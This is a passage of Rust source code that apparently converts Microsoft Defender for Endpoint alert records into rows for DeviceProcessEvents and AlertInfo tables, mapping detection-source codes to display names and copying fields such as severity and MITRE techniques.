    rows.sort_by_key(|(t, _)| *t);
    tables.append(
        "DeviceProcessEvents",
        columns,
        rows.into_iter().map(|(_, r)| r).collect(),
    );
}

fn alert_info(tables: &mut Tables, alerts: &[Map<String, Value>]) {
    let Some(columns) = known_schema("AlertInfo") else {
        return;
    };
    let source = |d: &str| match d {
        "WindowsDefenderAv" => "Antivirus",
        "WindowsDefenderSmartScreen" => "SmartScreen",
        "CustomerTI" => "Custom TI",
        "CustomDetection" => "Custom detection",
        "AutomatedInvestigation" => "Automated investigation",
        "MTP" => "Microsoft Defender XDR",
        _ => "EDR",
    };
    let rows = alerts
        .iter()
        .map(|a| {
            let g = |k: &str| a.get(k).cloned().unwrap_or(Value::Null);
            let techniques = serde_json::to_string(&g("mitreTechniques")).unwrap_or_default();
            let mut v = Map::new();
            v.insert("Timestamp".into(), g("alertCreationTime"));
            v.insert("AlertId".into(), g("id"));
            v.insert("Title".into(), g("title"));
            v.insert("Category".into(), g("category"));
            v.insert("Severity".into(), g("severity"));
            v.insert(
                "ServiceSource".into(),
                json!("Microsoft Defender for Endpoint"),
            );
            v.insert(
                "DetectionSource".into(),
                json!(source(
                    a.get("detectionSource")
                        .and_then(Value::as_str)
                        .unwrap_or("")
                )),
            );
            v.insert("AttackTechniques".into(), json!(techniques));
            schema_row(&columns, v)
        })
        .collect();
    tables.append("AlertInfo", columns, rows);
}
